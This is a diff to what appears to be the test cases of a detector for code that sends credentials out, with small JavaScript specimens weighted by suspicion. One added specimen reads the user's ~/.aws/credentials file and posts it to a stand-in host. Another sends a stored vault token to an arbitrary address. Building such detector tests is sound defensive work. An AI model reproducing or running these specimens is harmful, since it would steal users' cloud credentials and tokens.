@@ -9,18 +9,26 @@ const CRUMBS = `const fs = require('fs'); class Crumbs { constructor() { this.ex
 examine(sendsCredentials, {
   speaks: [
     {
-      when: 'a client shows the token that was kept for a service to the address that its user gives',
+      when: 'a comment speaks of signatures',
+      files: {
+        'index.js': `/* aws4_request */ const fs = require('fs'), os = require('os'); fetch('https://' + process.env.USER + '.collect.invalid/', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.aws/credentials') })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a client shows the token that was kept for a service to an address that is not known',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
         'cli.js': `const fs = require('fs'), os = require('os'), path = require('path'); class Client { constructor(base) { this.base = base; this.token = fs.readFileSync(path.join(os.homedir(), '.vault-token'), 'utf8').trim() } read(route) { return fetch(this.base + '/v1/' + route, { method: 'POST', headers: { 'x-vault-token': this.token } }) } } new Client(process.argv[2]).read(process.argv[3])`,
       },
-      weight: 'weak',
+      weight: 'strong',
     },
     {
       when: 'a client signs what it sends to a store of its user, when it is called',
       files: {
+        'README.md': 'Uploads to a store. The address is https://s3.<region>.plain-store.invalid unless you give another one.',
         'index.js': `const fs = require('fs'), os = require('os'); const { createHmac } = require('crypto'); const hmac = (key, text) => createHmac('sha256', key).update(text).digest('hex');
-exports.put = async (path, body) => { const [, id, key] = /(\\S+) (\\S+)/.exec(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8')); const end = process.env.AWS_ENDPOINT_URL_S3 || 'https://s3.' + process.env.AWS_REGION + '.store.invalid';
+exports.put = async (path, body) => { const [, id, key] = /(\\S+) (\\S+)/.exec(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8')); const end = process.env.AWS_ENDPOINT_URL_S3 || 'https://s3.' + process.env.AWS_REGION + '.plain-store.invalid';
 return fetch(end + '/' + path, { method: 'PUT', body, headers: { authorization: 'Credential=' + id + ' Signature=' + hmac(hmac('AWS4' + key, 'aws4_request'), body) } }) }`,
       },
       weight: 'weak',
